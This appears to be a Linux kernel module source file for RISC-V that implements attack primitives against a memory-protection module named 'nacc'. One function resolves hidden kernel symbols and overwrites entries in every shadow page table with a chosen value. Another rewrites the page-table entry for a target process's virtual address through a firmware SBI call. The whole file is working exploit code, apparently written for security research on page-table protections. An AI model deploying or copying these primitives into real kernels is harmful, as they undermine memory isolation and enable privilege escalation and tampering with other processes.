// SPDX-License-Identifier: GPL-2.0
/* The memory that batch calls take entries from: the module's, or the attacker's own. */
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/uaccess.h>
#include <asm/sbi.h>

#include "attack.h"
#include "tables/shadow.h"

static void *data(unsigned long (*lookup)(const char *name), const char *name)
{
	return lookup ? (void *)lookup(name) : NULL;
}

/**
 * attack_shadow() - SLOT VALUE: an ordinary store into each shadow table of the module
 *
 * Whatever is to be changed next will be copied to one of them.
 */
int attack_shadow(const u64 *arg, struct seq_buf *out)
{
	unsigned long (*lookup)(const char *name) = attack_symbol("kallsyms_lookup_name");
	struct nacc_shadow **shadows = data(lookup, "nacc:shadows");
	unsigned int *nr = data(lookup, "nacc:nr_shadows"), i, j;

	if (!shadows || !nr || arg[0] >= PTRS_PER_PTE)
		return -ENOENT;
	for (i = 0; i < *nr; i++)
		for (j = 0; j < NACC_SHADOW_TABLES; j++)
			WRITE_ONCE((*shadows)[i].table[j].entries[arg[0]], arg[1]);
	seq_buf_printf(out, "tables=%u slot=%llu value=%#llx\n", i * NACC_SHADOW_TABLES, arg[0],
		       arg[1]);
	return 0;
}

/** attack_exchange() - PID VA VALUE: EXCHANGE the entry that translates VA, by a call of our own */
int attack_exchange(const u64 *arg, struct seq_buf *out)
{
	struct attack_walk walk;
	struct page *pages;
	unsigned int slot;
	struct sbiret ret;
	u64 *wanted, now;
	int err = attack_walk(arg[0], arg[1], &walk);

	if (err || walk.lowest)
		return err ?: -ENXIO;
	pages = alloc_pages(GFP_KERNEL | __GFP_ZERO, 1);
	if (!pages)
		return -ENOMEM;
	slot = (walk.slot[0] & ~PAGE_MASK) / sizeof(u64);
	wanted = page_address(pages);
	wanted[slot] = arg[2];
	wanted[PTRS_PER_PTE + slot] = walk.value[0];
	ret = sbi_ecall(NACC_SBI_EID, NACC_SBI_EXCHANGE, walk.slot[0] & PAGE_MASK,
			slot | 1UL << 16, page_to_phys(pages), 0, 0, 0);
	__free_pages(pages, 1);
	attack_fence();
	if (copy_from_kernel_nofault(&now, __va(walk.slot[0]), sizeof(now)))
		return -EFAULT;
	seq_buf_printf(out, "error=%ld value=%#lx before=%#llx now=%#llx\n", ret.error, ret.value,
		       walk.value[0], now);
	return 0;
}
